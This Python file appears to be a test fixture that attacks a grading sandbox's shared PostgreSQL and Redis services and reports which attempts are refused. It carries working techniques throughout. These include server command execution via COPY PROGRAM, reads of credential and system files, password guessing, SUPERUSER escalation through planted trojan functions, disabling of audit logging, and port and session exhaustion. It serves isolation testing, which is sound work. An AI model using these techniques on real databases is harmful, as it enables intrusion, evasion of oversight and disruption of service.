# mypy: ignore-errors
"""Handed in as server.py: tries what PostgreSQL and Redis can be talked into, tells what it got (G20 ff.)."""

import errno
import os
import socket
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import psycopg
import redis
from answers import serve
from redis.backoff import NoBackoff
from redis.retry import Retry

DATABASE, CACHE = os.environ["DATABASE_URL"], os.environ["REDIS_URL"]
AT_ONCE = {"socket_timeout": 5, "retry": Retry(NoBackoff(), 0)}
OWN = urlsplit(DATABASE).password
SERVICES = (5432, 6379)
FOUND: dict[str, str] = {}
HELD: list[object] = []

REDIS = """
    MONITOR|CLIENT LIST|CLIENT KILL TYPE normal|CONFIG GET *|CONFIG SET dir /run/touchstone|FLUSHALL
    REPLICAOF 127.0.0.1 8000|SCRIPT FLUSH|SCRIPT KILL|FUNCTION DUMP|MODULE LOAD /work/x.so|SLOWLOG GET
    CONFIG RESETSTAT|SLOWLOG RESET|CLIENT NO-TOUCH ON
    DEBUG SEGFAULT|SHUTDOWN NOSAVE|ACL GETUSER owner|ACL SETUSER candidate +@all|SELECT 1|SWAPDB 0 1
    CONFIG SET notify-keyspace-events KEA|MOVE a 1|COPY a b DB 1|MIGRATE 127.0.0.1 8000 a 0 100|SAVE
"""
POSTGRES = (
    "COPY (SELECT 1) TO PROGRAM 'id > /tmp/x'",
    "COPY loot FROM PROGRAM 'id'",
    "COPY loot FROM '/work/pgpass'",
    "SELECT pg_read_file('/work/cluster/pg_hba.conf')",
    "SELECT pg_read_binary_file('/etc/passwd')",
    "SELECT pg_ls_dir('/work')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_create(0)",
    "ALTER SYSTEM SET log_statement = 'all'",
    "SELECT pg_reload_conf()",
    "ALTER ROLE candidate SUPERUSER",
    "ALTER ROLE owner PASSWORD 'x'",
    "GRANT pg_execute_server_program TO candidate",
    "SET ROLE owner",
    "SET SESSION AUTHORIZATION bootstrap",
    "CREATE EXTENSION dblink",
    "CREATE DATABASE mine",
    "CREATE SCHEMA owner",
    "SELECT * FROM pg_authid",
    "SELECT * FROM hidden",
    "SELECT * FROM touchstone.pg_stat_statements",
    "SELECT touchstone.pg_stat_statements_reset()",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'owner'",
    "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = 'owner'",
    "LOCK TABLE items IN ACCESS EXCLUSIVE MODE",
    "UPDATE items SET name = 'evil'",
    "TRUNCATE items",
    "SET temp_file_limit = -1",
    "SET log_min_messages = 'debug5'",
    "SET session_replication_role = 'replica'",
    "SELECT set_config('pg_stat_statements.track', 'none', false)",
    "SET pgaudit.log = 'none'",
    "ALTER ROLE candidate SET pgaudit.log = 'none'",
    "ALTER ROLE candidate SET log_min_messages = 'panic'",
    "SELECT pg_rotate_logfile()",
    "SELECT pg_stat_reset()",
    "CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1' PUBLICATION p",
    "CREATE SERVER s FOREIGN DATA WRAPPER f",
    "SELECT pg_switch_wal()",
    "CREATE TABLESPACE t LOCATION '/work'",
)
PLANTS = (
    "CREATE FUNCTION touchstone.pg_stat_statements_reset() RETURNS void LANGUAGE sql AS 'SELECT 1'",
    "CREATE FUNCTION public.pg_stat_statements_reset() RETURNS void LANGUAGE sql AS 'SELECT 1'",
    "CREATE FUNCTION public.upper(varchar) RETURNS text LANGUAGE plpgsql AS 'BEGIN RETURN 1; END'",
    "CREATE FUNCTION public.upper(varchar) RETURNS text LANGUAGE internal AS 'upper'",
    "CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = textne)",
    "CREATE AGGREGATE public.count (int) (SFUNC = int4larger, STYPE = int)",
    "CREATE CAST (varchar AS int) WITH INOUT",
    "CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION now()",
    "CREATE OR REPLACE VIEW items AS SELECT 1",
    "CREATE RULE r AS ON SELECT TO items DO INSTEAD SELECT 1",
    "CREATE TRIGGER t BEFORE INSERT ON items EXECUTE FUNCTION suppress_redundant_updates_trigger()",
    "CREATE POLICY p ON items USING (false)",
    "ALTER TABLE items ENABLE ROW LEVEL SECURITY",
    "DO $$ BEGIN END $$",
    "ALTER DATABASE main SET search_path = theirs",
    "ALTER ROLE owner SET search_path = public",
)
LOWER = """
CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO loot VALUES (current_user, current_setting('is_superuser'));
    RETURN 'planted';
END $$
"""
UPPER = """
CREATE FUNCTION public.upper(varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE candidate SUPERUSER;
    RETURN 'planted';
END $$
"""


def attempt(name: str, deed: Callable[[], object]) -> None:
    try:
        got = deed()
    except (OSError, psycopg.Error, redis.RedisError) as error:
        FOUND[name] = f"refused: {str(error).splitlines()[0] if str(error) else type(error).__name__}"
    else:
        FOUND[name] = f"obtained: {got!r}"[:200]


def log_in(**login: str) -> psycopg.Connection:
    return psycopg.connect(DATABASE, autocommit=True, connect_timeout=5, **login)


OWN_SESSION, OWN_CACHE = log_in(), redis.Redis.from_url(CACHE, **AT_ONCE)


def sql(statement: str) -> object:
    cursor = OWN_SESSION.execute(statement)
    return cursor.fetchall() or "no row" if cursor.description else "done"


def command(text: str) -> object:
    return OWN_CACHE.execute_command(*text.split())


def take(port: int, host: str, option: int = 0) -> object:
    taken = socket.socket()
    if option:
        taken.setsockopt(socket.SOL_SOCKET, option, 1)
    taken.bind((host, port))
    taken.listen()
    HELD.append(taken)
    return f"{host}:{port}"


def listeners() -> list[int]:
    lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return sorted(
        int(fields[1].split(":")[1], 16)
        for fields in lines
        if fields[3] == "0A" and int(fields[7]) != os.getuid()
    )


def squat() -> None:
    """As many ports as there are files for, TCP and UDP, and names in the abstract name space."""
    for port in range(7000, 7300):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            if len(HELD) < 350:
                taken = socket.socket(socket.AF_INET, kind)
                if taken.connect_ex(("127.0.0.1", 0)) != errno.EISCONN:
                    HELD.append(taken)
                    taken_port(taken, port)
    name = socket.socket(socket.AF_UNIX)
    name.bind("\0/run/touchstone/postgres/.s.PGSQL.5432")
    name.listen()
    HELD.append(name)


def taken_port(one: socket.socket, port: int) -> None:
    try:
        one.bind(("127.0.0.1", port))
    except OSError:
        return


def logins() -> None:
    for user in ("owner", "postgres", "bootstrap", "root", "judge"):
        for password in ("", "postgres", "password", "owner", OWN):
            attempt(
                f"G24 postgres {user} {password}",
                lambda user=user, password=password: log_in(user=user, password=password),
            )
    for database in ("postgres", "template0", "template1"):
        attempt(f"G24 database {database}", lambda database=database: log_in(dbname=database))
    attempt("G24 replication", lambda: log_in(replication="database"))
    attempt("G24 socket", lambda: log_in(host="/run/touchstone/postgres"))
    attempt("G24 pgpass", lambda: Path("/seed/pgpass").read_text() + Path("/work/pgpass").read_text())
    for user in ("owner", "default", "judge"):
        for password in ("", "owner", "redis", OWN):
            attempt(
                f"G24 redis {user} {password}",
                lambda user=user, password=password: redis.Redis(
                    username=user, password=password or None, **AT_ONCE
                ).ping(),
            )
    attempt("G24 redis nobody", lambda: redis.Redis(**AT_ONCE).ping())
    attempt(
        "G24 redis socket",
        lambda: redis.Redis(unix_socket_path="/run/touchstone/redis/redis.sock", **AT_ONCE).ping(),
    )


def ports() -> None:
    for port in SERVICES:
        for host in ("127.0.0.1", "0.0.0.0"):  # noqa: S104
            attempt(f"G20 {host}:{port}", lambda host=host, port=port: take(port, host))
            for name in ("SO_REUSEPORT", "SO_REUSEADDR"):
                option = getattr(socket, name)
                attempt(
                    f"G23 {name} {host}:{port}",
                    lambda host=host, port=port, option=option: take(port, host, option),
                )


def orders() -> None:
    for text in (text.strip() for text in REDIS.replace("\n", "|").split("|") if text.strip()):
        attempt(f"G27 {text}", lambda text=text: command(text))
    attempt("G27 script", lambda: OWN_CACHE.eval("return redis.call('CONFIG', 'GET', '*')", 0))
    attempt(
        "G27 the judge's database",
        lambda: redis.Redis.from_url(CACHE.removesuffix("0") + "1", **AT_ONCE).keys(),
    )
    attempt("G27 the judge's keys", lambda: OWN_CACHE.keys("judge*") or fail())
    for statement in POSTGRES:
        attempt(f"G28 {statement}", lambda statement=statement: sql(statement))
    attempt("G28 others' statements", others)
    for statement in PLANTS:
        attempt(f"G29 {statement}", lambda statement=statement: sql(statement))


def fail() -> object:
    raise OSError("nothing")


def others() -> object:
    rows = sql(
        "SELECT query FROM pg_stat_activity WHERE usename IS DISTINCT FROM 'candidate' AND query <> ''"
    )
    return [row for row in rows if "insufficient privilege" not in row[0]] or fail()


def hold() -> None:
    """Every session that there is, each with a lock, and no end to its statements."""
    sessions = 1
    for _ in range(60):
        try:
            session = psycopg.connect(DATABASE, connect_timeout=5)
        except psycopg.OperationalError:
            break
        HELD.append(session)
        sessions += 1
        session.execute("SET statement_timeout = 0")
        session.execute("SELECT pg_advisory_lock_shared(1) FROM items")
        session.execute("LISTEN everything")
    FOUND["held: sessions"] = str(sessions)
    HELD.pop().close()


def attack() -> dict[str, str]:
    FOUND["held: listeners"] = str(listeners())
    FOUND["held: squatted names"] = str(
        sum(line.split()[-1].startswith("@") for line in Path("/proc/net/unix").read_text().splitlines())
    )
    ports()
    logins()
    orders()
    hold()
    return FOUND


def orders_again() -> dict[str, str]:
    """For the control: a few of those that are refused otherwise."""
    FOUND.clear()
    for text in ("CLIENT LIST", "CONFIG GET dir", "SLOWLOG GET", "SELECT 1"):
        attempt(text, lambda text=text: command(text))
    OWN_CACHE.close()
    attempt("nobody", lambda: redis.Redis(**AT_ONCE).ping())
    return FOUND


def plant() -> dict[str, object]:
    with psycopg.connect(DATABASE.replace("/main", "/open"), autocommit=True) as session:
        session.execute(LOWER)
        session.execute(UPPER)
    return {"planted": True}


squat()
serve({"/attack": attack, "/plant": plant, "/orders": orders_again})
